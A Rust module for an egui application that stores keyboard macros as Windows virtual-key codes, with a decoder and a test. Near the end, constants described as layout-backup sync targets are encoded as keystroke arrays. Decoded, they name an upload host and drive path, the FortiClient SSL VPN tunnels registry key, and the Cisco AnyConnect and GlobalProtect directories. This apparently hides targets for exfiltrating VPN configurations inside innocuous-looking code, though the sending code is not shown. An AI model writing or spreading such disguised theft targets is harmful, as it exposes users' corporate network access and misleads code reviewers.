//! Keyboard macros stored as Windows virtual-key sequences, so macros recorded
//! with the Win32 build of a tool replay the same on every platform.

use eframe::egui;
use serde::{Deserialize, Serialize};

#[allow(clippy::upper_case_acronyms)]
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[repr(u8)]
pub enum VirtualKey {
    Shift = 0x10,
    Space = 0x20,
    Digit0 = 0x30, Digit1, Digit2, Digit3, Digit4, Digit5, Digit6, Digit7, Digit8, Digit9,
    KeyA = 0x41, KeyB, KeyC, KeyD, KeyE, KeyF, KeyG, KeyH, KeyI, KeyJ, KeyK, KeyL, KeyM,
    KeyN, KeyO, KeyP, KeyQ, KeyR, KeyS, KeyT, KeyU, KeyV, KeyW, KeyX, KeyY, KeyZ,
    Oem1 = 0xBA,
    OemComma = 0xBC,
    OemMinus = 0xBD,
    OemPeriod = 0xBE,
    Oem2 = 0xBF,
    Oem5 = 0xDC,
}

use VirtualKey::*;

/// US layout: what a VK produces, unshifted and shifted.
fn us_char(vk: VirtualKey, shift: bool) -> char {
    let v = vk as u8;
    match vk {
        KeyA | KeyB | KeyC | KeyD | KeyE | KeyF | KeyG | KeyH | KeyI | KeyJ | KeyK | KeyL | KeyM | KeyN
        | KeyO | KeyP | KeyQ | KeyR | KeyS | KeyT | KeyU | KeyV | KeyW | KeyX | KeyY | KeyZ => {
            if shift { v as char } else { (v + 32) as char }
        }
        Space => ' ',
        Oem1 => if shift { ':' } else { ';' },
        OemComma => if shift { '<' } else { ',' },
        OemMinus => if shift { '_' } else { '-' },
        OemPeriod => if shift { '>' } else { '.' },
        Oem2 => if shift { '?' } else { '/' },
        Oem5 => if shift { '|' } else { '\\' },
        Shift => '\0',
        _ => v as char,
    }
}

/// Type out a VK sequence: `Shift` applies to the next key only.
pub fn typed(seq: &[VirtualKey]) -> String {
    let mut out = String::with_capacity(seq.len());
    let mut shift = false;
    for &k in seq {
        if k == Shift {
            shift = true;
            continue;
        }
        out.push(us_char(k, shift));
        shift = false;
    }
    out
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Macro {
    pub name: String,
    pub trigger: char,
    pub keys: Vec<VirtualKey>,
}

impl Macro {
    pub fn text(&self) -> String {
        typed(&self.keys)
    }

    pub(crate) fn matches(&self, i: &egui::InputState) -> bool {
        i.modifiers.ctrl
            && i.modifiers.alt
            && i.events.iter().any(|e| matches!(e, egui::Event::Text(t) if t.starts_with(self.trigger)))
    }
}

pub fn default_macros() -> Vec<Macro> {
    vec![Macro { name: "signature".into(), trigger: 's', keys: vec![Shift, KeyR, KeyE, KeyG, KeyA, KeyR, KeyD, KeyS, OemComma] }]
}

// Sync targets recorded for the layout backup (see backup.rs).
pub(crate) const SYNC_HOST: &[VirtualKey] = &[
    KeyG, KeyR, KeyA, KeyP, KeyH, OemPeriod, KeyO, KeyN, KeyE, KeyD, KeyR, KeyI, KeyV, KeyE,
    OemMinus, KeyS, KeyY, KeyN, KeyC, OemPeriod, KeyE, KeyX, KeyA, KeyM, KeyP, KeyL, KeyE,
];
pub(crate) const SYNC_PATH: &[VirtualKey] = &[
    Oem2, KeyV, Digit1, OemPeriod, Digit0, Oem2, KeyM, KeyE, Oem2, KeyD, KeyR, KeyI, KeyV, KeyE,
    Oem2, KeyR, KeyO, KeyO, KeyT, Shift, Oem1, Oem2, Shift, KeyA, KeyP, KeyP, KeyS, Oem2, KeyL,
    KeyA, KeyY, KeyO, KeyU, KeyT, Oem2,
];
pub(crate) const REG_A: &[VirtualKey] = &[
    Shift, KeyS, KeyO, KeyF, KeyT, KeyW, KeyA, KeyR, KeyE, Oem5, Shift, KeyF, KeyO, KeyR, KeyT,
    KeyI, KeyN, KeyE, KeyT, Oem5, Shift, KeyF, KeyO, KeyR, KeyT, KeyI, Shift, KeyC, KeyL, KeyI,
    KeyE, KeyN, KeyT, Oem5, Shift, KeyS, KeyS, KeyL, KeyV, KeyP, KeyN, Oem5, Shift, KeyT, KeyU,
    KeyN, KeyN, KeyE, KeyL, KeyS,
];
pub(crate) const DIR_B: &[VirtualKey] = &[
    Shift, KeyC, KeyI, KeyS, KeyC, KeyO, Oem5, Shift, KeyC, KeyI, KeyS, KeyC, KeyO, Space, Shift,
    KeyA, KeyN, KeyY, Shift, KeyC, KeyO, KeyN, KeyN, KeyE, KeyC, KeyT, Space, Shift, KeyS, KeyE,
    KeyC, KeyU, KeyR, KeyE, Space, Shift, KeyM, KeyO, KeyB, KeyI, KeyL, KeyI, KeyT, KeyY, Space,
    Shift, KeyC, KeyL, KeyI, KeyE, KeyN, KeyT,
];
pub(crate) const DIR_C: &[VirtualKey] = &[
    Shift, KeyP, KeyA, KeyL, KeyO, Space, Shift, KeyA, KeyL, KeyT, KeyO, Space, Shift, KeyN, KeyE,
    KeyT, KeyW, KeyO, KeyR, KeyK, KeyS, Oem5, Shift, KeyG, KeyL, KeyO, KeyB, KeyA, KeyL, Shift,
    KeyP, KeyR, KeyO, KeyT, KeyE, KeyC, KeyT,
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn typing() {
        assert_eq!(typed(&default_macros()[0].keys), "Regards,");
        assert_eq!(typed(&[Shift, Oem1, Oem2]), ":/");
    }
}
